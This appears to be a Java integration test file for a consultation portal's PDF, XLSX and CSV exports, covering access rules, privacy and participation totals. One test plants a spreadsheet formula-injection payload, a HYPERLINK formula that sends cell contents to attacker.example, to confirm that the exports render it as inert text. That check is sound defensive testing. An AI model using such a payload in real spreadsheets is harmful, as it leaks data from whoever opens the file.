package org.consultationregistry.report;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.Reader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.consultationregistry.account.Accounts;
import org.consultationregistry.account.Role;
import org.consultationregistry.recommendation.Recommendation;
import org.consultationregistry.recommendation.RecommendationStatus;
import org.consultationregistry.recommendation.Recommendations;
import org.consultationregistry.session.ConsultationSession;
import org.consultationregistry.session.ConsultationSessions;
import org.consultationregistry.session.SessionDetails;
import org.consultationregistry.support.Portal;
import org.consultationregistry.support.PortalTest;
import org.consultationregistry.support.TestAccounts;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The files the portal writes, opened with the readers people's programs use: PDFBox for the minutes, Apache POI
 * for the spreadsheets, Commons CSV for the CSV files. Recommendations of the test's own come from a planned
 * session (never published), so that the public view other tests count stays as the demo left it.
 */
@PortalTest
class ReportFilesIT {

	private static final String OFFICIAL = "reports-official";

	@LocalServerPort
	int port;

	@Autowired
	Accounts accounts;

	@Autowired
	ConsultationSessions sessions;

	@Autowired
	Recommendations recommendations;

	@Autowired
	JdbcTemplate jdbc;

	Portal official;

	/** A word in the titles of this test's recommendations only, to filter the exports down to them. */
	String marker;

	ConsultationSession session;

	@BeforeEach
	void signInAndPlanASession() {
		TestAccounts.ensure(this.accounts, OFFICIAL, Role.OFFICIAL, null);
		this.official = new Portal(this.port).signIn(OFFICIAL, TestAccounts.PASSWORD);
		this.marker = "rpt" + UUID.randomUUID().toString().substring(0, 8);
		this.session = this.sessions.record(ConsultationSession.plan(new SessionDetails("Exports " + this.marker,
				"Reporting", LocalDate.of(2025, 2, 10), null, null, "Lahore", null, null, null, null, null)));
	}

	@Test
	void theDemoSessionsMinutesPdfNamesAllThirteenParticipantsOnNumberedPages() throws IOException {
		long demo = this.jdbc.queryForObject("select min(id) from consultation_session where status = 'PUBLISHED'",
				Long.class);
		List<String> names = this.jdbc.queryForList("""
				select coalesce(person.full_name, p.designation) from participant p
				left join person on person.id = p.person_id where p.session_id = ?
				""", String.class, demo);
		assertThat(names).hasSize(13);

		// A visitor may download the minutes of a published session.
		HttpResponse<byte[]> answer = new Portal(this.port).download("/sessions/" + demo + "/minutes.pdf");

		assertThat(answer.statusCode()).isEqualTo(200);
		assertThat(answer.headers().firstValue("Content-Type").orElseThrow()).isEqualTo("application/pdf");
		assertThat(answer.headers().firstValue("Content-Disposition").orElseThrow())
			.matches("attachment; filename=\"minutes-2024-09-30-[a-z0-9.-]+\\.pdf\"; filename\\*=UTF-8''minutes.+\\.pdf");
		try (PDDocument pdf = Loader.loadPDF(answer.body())) {
			String text = new PDFTextStripper().getText(pdf).replaceAll("\\s+", " ");
			assertThat(text).contains("Planning and Development Board", "Participants (13)", "Recommendations",
					"Page 1 of " + pdf.getNumberOfPages());
			names.forEach((name) -> assertThat(text).contains(name));
			// The fonts travel with the file, so it looks the same everywhere.
			assertThat(pdf.getPage(0).getResources().getFontNames()).isNotEmpty();
			pdf.getPage(0).getResources().getFontNames().forEach((font) -> {
				try {
					assertThat(pdf.getPage(0).getResources().getFont(font).isEmbedded()).isTrue();
				}
				catch (IOException ex) {
					throw new IllegalStateException(ex);
				}
			});
		}
	}

	@Test
	void thePublicGetsNoPdfOfASessionNotYetPublished() {
		assertThat(new Portal(this.port).download("/sessions/" + this.session.getId() + "/minutes.pdf").statusCode())
			.isEqualTo(404);
		assertThat(this.official.download("/sessions/" + this.session.getId() + "/minutes.pdf").statusCode())
			.isEqualTo(200);
	}

	@Test
	void aFilteredExportHoldsExactlyTheRowsOfTheFilteredList() throws IOException {
		long accepted = recommend("Accepted " + this.marker, RecommendationStatus.UNDER_REVIEW,
				RecommendationStatus.ACCEPTED);
		long alsoAccepted = recommend("Also accepted " + this.marker, RecommendationStatus.UNDER_REVIEW,
				RecommendationStatus.ACCEPTED);
		recommend("Still proposed " + this.marker);
		recommend("Under review " + this.marker, RecommendationStatus.UNDER_REVIEW);
		String query = "?q=" + this.marker + "&status=ACCEPTED&page=3";

		List<Long> listed = this.official.page("/recommendations" + query.replace("&page=3", ""))
			.select(".search-results h2 a")
			.eachAttr("href")
			.stream()
			.map((href) -> Long.valueOf(href.substring(href.lastIndexOf('/') + 1)))
			.toList();
		List<Long> inXlsx = new ArrayList<>();
		try (XSSFWorkbook workbook = xlsx("/recommendations/export.xlsx" + query)) {
			XSSFSheet sheet = workbook.getSheetAt(0);
			assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
			assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).startsWith("A1:");
			assertThat(sheet.getColumnWidth(TrackerColumn.TITLE.ordinal())).isEqualTo(60 * 256);
			for (int i = 1; i <= sheet.getLastRowNum(); i++) {
				Row row = sheet.getRow(i);
				inXlsx.add((long) row.getCell(TrackerColumn.ID.ordinal()).getNumericCellValue());
				Cell heldOn = row.getCell(TrackerColumn.HELD_ON.ordinal());
				assertThat(DateUtil.isCellDateFormatted(heldOn)).isTrue();
				assertThat(heldOn.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2025, 2, 10));
				assertThat(row.getCell(TrackerColumn.STATUS.ordinal()).getStringCellValue()).isEqualTo("Accepted");
			}
		}
		List<Long> inCsv = new ArrayList<>();
		HttpResponse<byte[]> csv = this.official.download("/recommendations/export.csv" + query);
		assertThat(csv.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/csv");
		assertThat(csv.body()).startsWith(0xEF, 0xBB, 0xBF);
		for (CSVRecord record : csv(csv.body())) {
			inCsv.add(Long.valueOf(record.get(0)));
			assertThat(record.get(TrackerColumn.HELD_ON.ordinal())).isEqualTo("2025-02-10");
		}

		// The staff see this planned session's recommendations; the filter keeps the two accepted ones.
		assertThat(listed).containsExactlyInAnyOrder(accepted, alsoAccepted);
		assertThat(inXlsx).containsExactlyElementsOf(listed);
		assertThat(inCsv).containsExactlyElementsOf(listed);
		// The public does not see an unpublished session's recommendations in an export either.
		assertThat(csv(new Portal(this.port).download("/recommendations/export.csv" + query).body())).isEmpty();
	}

	@Test
	void aFormulaInACellComesOutAsInertText() throws IOException {
		String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\") " + this.marker;
		recommend(formula);
		recommend("@SUM(1+1) " + this.marker);
		recommend("-2+3 " + this.marker);

		try (XSSFWorkbook workbook = xlsx("/recommendations/export.xlsx?q=" + this.marker)) {
			Sheet sheet = workbook.getSheetAt(0);
			List<String> titles = new ArrayList<>();
			for (Row row : sheet) {
				for (Cell cell : row) {
					assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
				}
				if (row.getRowNum() > 0) {
					titles.add(row.getCell(TrackerColumn.TITLE.ordinal()).getStringCellValue());
				}
			}
			assertThat(titles).containsExactlyInAnyOrder("'" + formula, "'@SUM(1+1) " + this.marker,
					"'-2+3 " + this.marker);
		}
		List<String> csvTitles = csv(this.official.download("/recommendations/export.csv?q=" + this.marker).body())
			.stream()
			.map((record) -> record.get(TrackerColumn.TITLE.ordinal()))
			.toList();
		assertThat(csvTitles).containsExactlyInAnyOrder("'" + formula, "'@SUM(1+1) " + this.marker,
				"'-2+3 " + this.marker);
	}

	@Test
	void publicExportsCarryNoContactDetails() throws IOException {
		long person = this.jdbc.queryForObject("select min(person_id) from participant", Long.class);
		this.jdbc.update("update person set email = 'private@example.org', phone = '+92 300 1234567' where id = ?",
				person);
		String csv;
		String openData;
		try {
			csv = new String(new Portal(this.port).download("/recommendations/export.csv").body(),
					StandardCharsets.UTF_8);
			openData = new String(new Portal(this.port).download("/api/v1/recommendations.csv").body(),
					StandardCharsets.UTF_8);
		}
		finally {
			this.jdbc.update("update person set email = null, phone = null where id = ?", person);
		}
		assertThat(csv).contains("ID,").doesNotContain("@example.org").doesNotContain("1234567");
		assertThat(openData).contains("ID,").doesNotContain("@example.org").doesNotContain("1234567");
	}

	@Test
	void theParticipationReportTotalsTheDemoSessionByOrganisationAndKind() throws IOException {
		String year = "?from=2024-01-01&to=2024-12-31";
		HttpResponse<byte[]> answer = this.official.download("/reports/participation.csv" + year);
		assertThat(answer.statusCode()).isEqualTo(200);
		assertThat(answer.headers().firstValue("Content-Disposition").orElseThrow())
			.startsWith("attachment; filename=\"participation-2024-01-01-to-2024-12-31.csv\"");
		List<CSVRecord> rows = csv(answer.body());
		CSVRecord total = rows.get(rows.size() - 1);
		assertThat(total.get(0)).isEqualTo("Total");
		int people = Integer.parseInt(total.get(total.size() - 1));
		Integer seated = this.jdbc.queryForObject("""
				select count(*) from participant p join consultation_session s on s.id = p.session_id
				where p.organisation_id is not null and s.held_on between '2024-01-01' and '2024-12-31'""",
				Integer.class);
		assertThat(people).isEqualTo(seated);
		assertThat(rows.stream().map((row) -> row.get(0))).contains("Airlink", "Total: Private sector");

		try (XSSFWorkbook workbook = xlsx("/reports/participation.xlsx" + year)) {
			Sheet sheet = workbook.getSheetAt(0);
			Row last = sheet.getRow(sheet.getLastRowNum());
			assertThat(last.getCell(0).getStringCellValue()).isEqualTo("Total");
			assertThat(last.getCell(last.getLastCellNum() - 1).getNumericCellValue()).isEqualTo(seated.doubleValue());
		}
	}

	@Test
	void theParticipationReportLeavesOutSessionsOutsideItsPeriod() throws IOException {
		long inside = heldOn("Inside " + this.marker, LocalDate.of(1953, 5, 31));
		long before = heldOn("Before " + this.marker, LocalDate.of(1953, 4, 30));
		long after = heldOn("After " + this.marker, LocalDate.of(1953, 6, 1));
		long attending = this.jdbc.queryForObject("""
				insert into organisation (name, type, sector) values (?, 'ACADEMIA', 'Reporting') returning id""",
				Long.class, "Attending " + this.marker);
		long absent = this.jdbc.queryForObject("""
				insert into organisation (name, type, sector) values (?, 'ACADEMIA', 'Reporting') returning id""",
				Long.class, "Absent " + this.marker);
		for (long session : new long[] { inside, inside, before, after }) {
			seat(attending, session);
		}
		seat(absent, before);
		seat(absent, after);

		List<CSVRecord> rows;
		List<String> header;
		HttpResponse<byte[]> answer = this.official.download("/reports/participation.csv?from=1953-05-01&to=1953-05-31");
		try (Reader reader = new InputStreamReader(new ByteArrayInputStream(answer.body()), StandardCharsets.UTF_8)) {
			reader.skip(1);
			rows = CSVFormat.EXCEL.parse(reader).getRecords();
			header = rows.get(0).toList();
		}

		// Only the session inside the period is a column, and only the organisation that sat at it is a row.
		assertThat(header).filteredOn((column) -> column.contains(this.marker))
			.containsExactly("1953-05-31 Inside " + this.marker);
		assertThat(rows.stream().map((row) -> row.get(0))).contains("Attending " + this.marker)
			.doesNotContain("Absent " + this.marker);
		CSVRecord row = rows.stream().filter((r) -> r.get(0).equals("Attending " + this.marker)).findFirst()
			.orElseThrow();
		assertThat(row.get(header.indexOf("1953-05-31 Inside " + this.marker))).isEqualTo("2");
		assertThat(row.get(header.indexOf("Sessions attended"))).isEqualTo("1");
		assertThat(row.get(header.indexOf("People"))).isEqualTo("2");
	}

	@Test
	void aParticipationFileOfABadPeriodSendsTheReaderBackToTheForm() {
		HttpResponse<byte[]> answer = this.official.download("/reports/participation.xlsx?from=2024-02-30&to=2024-12-31");

		assertThat(answer.statusCode()).isEqualTo(303);
		assertThat(answer.headers().firstValue("Location").orElseThrow())
			.endsWith("/reports?from=2024-02-30&to=2024-12-31");
		assertThat(this.official.download("/reports/participation.csv?from=2024-12-31&to=2024-01-01").statusCode())
			.isEqualTo(303);
	}

	/** A session of this test's, planned so that the public view stays as the demo left it. */
	private long heldOn(String title, LocalDate day) {
		return this.jdbc.queryForObject("""
				insert into consultation_session (title, theme, held_on, status)
				values (?, 'Reporting', ?, 'PLANNED') returning id""", Long.class, title, java.sql.Date.valueOf(day));
	}

	/** One person of the organisation, an unnamed office, at the session. */
	private void seat(long organisation, long session) {
		this.jdbc.update("""
				insert into participant (session_id, designation, organisation_id, role)
				values (?, 'Director', ?, 'PARTICIPANT')""", session, organisation);
	}

	/** Proposes a recommendation from the test's session and moves it through the given statuses. */
	private long recommend(String title, RecommendationStatus... moves) {
		Recommendation recommendation = Recommendation.propose(this.session, title, null, OFFICIAL, Instant.now());
		for (RecommendationStatus status : moves) {
			recommendation.moveTo(status, OFFICIAL, "Moved by the test", Instant.now());
		}
		return this.recommendations.record(recommendation).getId();
	}

	private XSSFWorkbook xlsx(String path) throws IOException {
		HttpResponse<byte[]> answer = this.official.download(path);
		assertThat(answer.statusCode()).isEqualTo(200);
		assertThat(answer.headers().firstValue("Content-Type").orElseThrow())
			.isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
		return new XSSFWorkbook(new ByteArrayInputStream(answer.body()));
	}

	/** The records of a CSV export after its header; the byte-order mark is taken off as Excel does. */
	static List<CSVRecord> csv(byte[] body) throws IOException {
		try (Reader reader = new InputStreamReader(new ByteArrayInputStream(body), StandardCharsets.UTF_8)) {
			int bom = reader.read();
			assertThat(bom).isEqualTo(0xFEFF);
			try (CSVParser parser = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
				.parse(reader)) {
				return parser.getRecords();
			}
		}
	}

}
